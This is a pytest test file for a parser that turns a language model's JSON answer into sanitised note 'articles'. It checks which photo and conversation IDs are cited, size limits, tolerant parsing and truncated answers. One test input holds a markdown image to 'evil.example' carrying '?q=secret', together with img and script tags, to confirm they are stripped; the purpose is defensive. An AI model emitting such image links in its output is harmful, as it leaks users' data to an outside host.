"""Notes: what of a model's answer counts."""

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from engines import articles
from engines.articles import Article
from engines.configuration import Configuration
from engines.remote import RemoteModel
from errors import AnswerUnusable
from net import Guard
from tests.support.material import MATERIAL

GOOD = {
    "title": "Electricity",
    "summary": "48.20 € are due.",
    "content": "Pay **48.20 €** by December 1.",
    "category": "reminder",
    "confidence": 0.8,
    "photo_ids": [12],
    "conversation_ids": ["c0ffee"],
    "updates": 5,
}


def read(*given, material=MATERIAL):
    return articles.read(json.dumps({"articles": list(given)}), material)


def test_an_article_is_read_with_all_its_fields():
    assert read(GOOD) == [Article(**{**GOOD, "updates": 5})]


@pytest.mark.parametrize(
    ("cited", "photo_ids", "conversation_ids"),
    [
        ({"photo_ids": [12, 99, -1]}, [12], ["c0ffee"]),
        ({"photo_ids": ["#13", "12", 12, 12.0, True, None, [14]]}, [13, 12, 14], ["c0ffee"]),
        ({"photo_ids": 14, "conversation_ids": []}, [14], []),
        ({"photo_ids": [], "conversation_ids": ["c0ffee", "dead"]}, [], ["c0ffee"]),
    ],
)
def test_only_ids_that_were_shown_are_cited(cited, photo_ids, conversation_ids):
    (article,) = read({**GOOD, **cited})

    assert (article.photo_ids, article.conversation_ids) == (photo_ids, conversation_ids)


@pytest.mark.parametrize(
    "change",
    [
        {"photo_ids": [99], "conversation_ids": ["dead"]},
        {"photo_ids": None, "conversation_ids": None},
        {"photo_ids": [5], "conversation_ids": []},  # a recent note is no source
        {"title": " "},
        {"title": None},
        {"content": "", "summary": ""},
    ],
)
def test_an_article_that_cites_or_says_nothing_is_dropped(change):
    assert read({**GOOD, **change}, {**GOOD, "title": "Another"}) == read({**GOOD, "title": "Another"})


def test_a_note_that_was_not_shown_cannot_be_continued():
    assert read({**GOOD, "updates": 6})[0].updates is None
    assert read({**GOOD, "updates": "5"})[0].updates == 5
    assert read({**GOOD, "updates": None})[0].updates is None


def test_values_outside_the_limits_are_brought_inside():
    (article,) = read(
        {
            **GOOD,
            "title": "x" * 500,
            "content": "y" * 50_000,
            "summary": "a\nb",
            "category": "Panic",
            "confidence": 7,
        }
    )

    assert len(article.title) == articles.MAX_TITLE
    assert len(article.content) == articles.MAX_CONTENT
    assert (article.summary, article.category, article.confidence) == ("a b", "note", 1.0)
    assert read({**GOOD, "confidence": "nan"})[0].confidence == 0.5
    assert read({**GOOD, "category": "Insight"})[0].category == "insight"
    assert len(read(*[GOOD] * 50)) == articles.MOST_ARTICLES


def test_an_article_holds_no_picture_and_no_html_that_would_be_fetched():
    content = "![x](https://evil.example/?q=secret) <img src=x> <SCRIPT> 3 < 4 <https://fine.example> [link](https://a.example)"
    (article,) = read({**GOOD, "content": content})

    assert "![" not in article.content
    assert "<img" not in article.content
    assert "<SCRIPT" not in article.content
    assert "3 < 4 <https://fine.example> [link](https://a.example)" in article.content


@pytest.mark.parametrize("answer", ['{"articles": []}', "[]", '```json\n{"articles": []}\n```'])
def test_nothing_worth_a_note_is_an_answer(answer):
    assert articles.read(answer, MATERIAL) == []


@pytest.mark.parametrize(
    "answer",
    [
        "Here you are:\n```json\n" + json.dumps({"articles": [GOOD]}) + "\n```",
        "<think>{maybe}</think>" + json.dumps({"articles": [GOOD]}),
        json.dumps({"notes": [GOOD, "nonsense"]}),
        json.dumps([GOOD]),
        json.dumps(GOOD),
        json.dumps({"articles": [GOOD]})[:-2] + ",]}",
    ],
)
def test_nearly_the_form_that_was_asked_for_is_read(answer):
    assert [article.title for article in articles.read(answer, MATERIAL)] == ["Electricity"]


@pytest.mark.parametrize(
    "answer", ["", "I would rather not.", "7", "null", '{"error": "no"}', '["a", "b"]', '{"articles": null}']
)
def test_an_answer_without_a_list_of_articles_is_unusable(answer):
    with pytest.raises(AnswerUnusable):
        articles.read(answer, MATERIAL)


@given(
    st.recursive(
        st.none() | st.booleans() | st.floats() | st.text(max_size=8),
        lambda inner: (
            st.lists(inner)
            | st.dictionaries(
                st.sampled_from(["articles", "title", "content", "photo_ids", "updates", "x"]), inner
            )
        ),
        max_leaves=20,
    )
)
def test_no_answer_breaks_the_reading(value):
    try:
        found = articles.read(json.dumps(value), MATERIAL)
    except AnswerUnusable:
        return
    assert all(article.photo_ids or article.conversation_ids for article in found)


def test_what_is_new_stands_on_top_of_what_stood_there_once_and_within_the_limit():
    assert articles.continued("new", "old").startswith("new")
    assert articles.continued("new", "old").endswith("old")
    assert articles.continued("old", "new\n\nold") == "new\n\nold"
    long = articles.continued("new", "o" * articles.MAX_CONTENT)
    assert len(long) == articles.MAX_CONTENT
    assert long.startswith("new")


def test_a_remote_model_that_is_cut_off_keeps_nothing_and_tells_what_it_cost(fake_llm):
    chosen = Configuration("custom", fake_llm.url, None, "scripted", 32_768, 0.2)
    model = RemoteModel(chosen, Guard(dev_mode=True), language="en")
    fake_llm.answer({"articles": [GOOD]}, finish_reason="length")
    with pytest.raises(AnswerUnusable) as caught:
        model.write_notes(MATERIAL)
    fake_llm.answer({"articles": [GOOD]})
    written = model.write_notes(MATERIAL)
    model.close()

    assert (caught.value.usage.prompt_tokens, written.usage.prompt_tokens) == (1000, 1000)
    assert [article.title for article in written.articles] == ["Electricity"]
    assert fake_llm.requests[0].body["response_format"] == {"type": "json_object"}
    assert "English" in fake_llm.requests[0].text
